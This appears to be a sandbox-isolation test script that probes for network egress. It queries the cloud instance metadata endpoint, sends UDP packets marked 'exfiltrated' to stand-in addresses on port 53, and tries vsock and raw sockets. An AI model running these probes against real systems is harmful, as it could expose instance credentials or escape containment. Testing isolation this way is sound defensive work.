"""Try every way out to the network; end well only if one was found. `probe.py listener` tries that one alone."""

import errno
import socket
import sys
from pathlib import Path

SECONDS = 3


def listener():
    host, port = Path("listener").read_text().split()
    with socket.create_connection((host, int(port)), SECONDS) as connection:
        return connection.recv(100)


def metadata():
    with socket.create_connection(("169.254.169.254", 80), SECONDS) as connection:
        connection.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")
        return connection.recv(100)


def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        return sender.sendto(b"exfiltrated", ("192.0.2.1", 53))


def datagram_v6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
        return sender.sendto(b"exfiltrated", ("2001:db8::1", 53))


def name():
    return socket.getaddrinfo("example.org", 443)


def hypervisor():
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as connection:
        connection.settimeout(SECONDS)
        connection.connect((2, 1024))
        return "connected"


def packets():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        return wire


def interfaces():
    others = [name for _, name in socket.if_nameindex() if name != "lo"]
    if not others:
        raise OSError(errno.ENODEV, "only a loopback of its own")
    return others


ways = [listener, metadata, datagram, datagram_v6, name, hypervisor, packets, interfaces]
reached = 0
for way in ways:
    if sys.argv[1:] and way.__name__ not in sys.argv[1:]:
        continue
    try:
        answer = way()
    except OSError as error:
        print(f"tried {way.__name__}: {error.strerror or error}")
    else:
        print(f"REACHED {way.__name__}: {answer!r}")
        reached += 1
sys.exit(0 if reached else "nothing reached")
